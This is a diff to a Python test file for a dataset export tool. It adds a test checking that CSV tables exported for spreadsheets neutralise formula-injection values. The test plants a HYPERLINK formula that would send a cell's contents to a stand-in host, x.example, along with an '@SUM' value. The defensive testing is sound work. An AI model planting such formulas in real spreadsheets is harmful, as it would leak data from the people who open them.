@@ -145,7 +145,8 @@ def test_default_paths(mini_model, tmp_path, monkeypatch):
             "xml",
             "g.xml",
             RequestError,
-            "unknown export format 'xml' (expected one of graphml, gexf, json, csv, cascades, adoptions, dyad-years)",
+            "unknown export format 'xml' (expected one of graphml, gexf, json, csv, parquet, cascades, adoptions, "
+            "dyad-years)",
         ),
         (
             "json",
@@ -350,3 +351,25 @@ def test_csv_round_trip_property(tmp_path_factory, data):
         assert row["city"] == model.incidence.cities[i]
         assert [int(row[x]) for x in model.incidence.initiatives] == dense[i].tolist()
     assert len(_read_csv(root / "out" / "adoptions.csv")) == sum(len(v) for v in model.incidence.evidence.values())
+
+
+def test_csv_tables_for_spreadsheets_neutralise_formulas_and_the_dataset_stays_exact(mini_copy, tmp_path):
+    formula = '=HYPERLINK("http://x.example/?"&B2,"潜江")'
+    path = mini_copy / "entities.csv"
+    text = path.read_text(encoding="utf-8").replace("甲山市", formula.replace('"', '""').join('""'), 1)
+    text = text.replace("红色物业", "@SUM(1+1)", 1)
+    path.write_text(text, encoding="utf-8")
+    model = Model(load_dataset(mini_copy))
+    folder = tmp_path / "tables"
+    ex.export(model, "csv", folder)
+    matrix = {r["city"]: r for r in _read_csv(folder / "adoption_matrix.csv")}
+    assert matrix["city:jia"]["city_name"] == "'" + formula
+    long = _read_csv(folder / "adoptions.csv")
+    assert {r["city_name"] for r in long if r["city"] == "city:jia"} == {"'" + formula}
+    assert "'@SUM(1+1)" in {r["initiative_name"] for r in long}
+    pairs = _read_csv(folder / "dyads.csv")
+    assert not [v for r in pairs for v in r.values() if v[:1] in ("=", "+", "@")]
+    assert any(v.startswith("'=") for r in pairs for v in r.values())
+    # the dataset files are exact: the folder reads back as the same dataset
+    again = load_dataset(folder)
+    assert again.entities["city:jia"].name == formula
